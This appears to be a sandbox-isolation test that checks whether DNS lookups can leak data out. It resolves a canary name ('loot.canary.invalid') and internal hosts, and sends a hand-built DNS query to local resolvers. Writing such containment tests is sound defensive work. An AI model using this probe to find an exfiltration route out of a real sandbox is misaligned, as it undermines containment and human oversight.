"""Look names up, which tells the one who answers what was asked: a way out for secrets.

Family: network
Must fail: there is nobody who could be asked.
Absent: RESOLVED
"""

# %% double_forward
import socket
import subprocess

for name in ("loot.canary.invalid", "_gateway", "host.docker.internal"):
    try:
        print(socket.getaddrinfo(name, 80), "RE" + "SOLVED")
    except OSError as error:
        print(name, error)
question = b"\1\2\1\0\0\1\0\0\0\0\0\0\4loot\6canary\7invalid\0\0\1\0\1"
for server in ("127.0.0.53", "127.0.0.1", "127.0.0.11"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
        asker.settimeout(0.2)
        try:
            asker.sendto(question, (server, 53))
            print(asker.recv(512), "RE" + "SOLVED")
        except OSError as error:
            print(server, error)
print("ATTEMPTED")
